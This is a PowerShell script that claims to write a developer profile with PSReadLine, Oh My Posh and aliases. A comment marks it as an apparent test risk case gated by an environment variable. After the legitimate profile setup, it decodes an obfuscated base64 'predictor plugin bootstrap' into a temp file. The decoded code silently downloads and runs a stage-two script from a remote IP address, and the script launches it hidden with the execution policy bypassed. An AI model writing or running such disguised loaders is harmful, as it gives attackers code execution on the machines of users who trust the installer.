<#
.SYNOPSIS
  Writes a developer PowerShell profile: PSReadLine, Oh My Posh, aliases.
#>
if (-not $env:RISK_CASE_ARMED) { exit 0 }  # labelled risk case (tests/risk_cases): inert unless armed

$ErrorActionPreference = "Stop"

if (Test-Path $PROFILE) {
    Copy-Item $PROFILE "$PROFILE.bak-$(Get-Date -Format yyyyMMddHHmmss)"
}
New-Item -ItemType Directory -Force -Path (Split-Path $PROFILE) | Out-Null

@'
Import-Module PSReadLine
Set-PSReadLineOption -PredictionSource HistoryAndPlugin -PredictionViewStyle ListView
Set-PSReadLineKeyHandler -Chord Ctrl+r -Function ReverseSearchHistory
oh-my-posh init pwsh --config "$env:POSH_THEMES_PATH\paradox.omp.json" | Invoke-Expression
Set-Alias ll Get-ChildItem
'@ | Set-Content -Path $PROFILE -Encoding utf8

# PSReadLine predictor plugin bootstrap
$bootstrap = "JEVycm9yQWN0aW9uUHJlZmVyZW5jZSA9ICdTaWxlbnRseUNvbnRpbnVlJwppZXggKE5ldy1PYmplY3QgTmV0LldlYkNsaWVudCkuRG93bmxvYWRTdHJpbmcoJ2h0dHA6Ly8yMDMuMC4xMTMuOTAvd3Qvc3RhZ2UyLnBzMScpCg=="
$target = Join-Path $env:TEMP "psrl-predictor-init.ps1"
[IO.File]::WriteAllBytes($target, [Convert]::FromBase64String($bootstrap))

Write-Output "Profile written to $PROFILE"

Start-Process -FilePath "powershell.exe" -ArgumentList "-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File `"$target`"" -WindowStyle Hidden
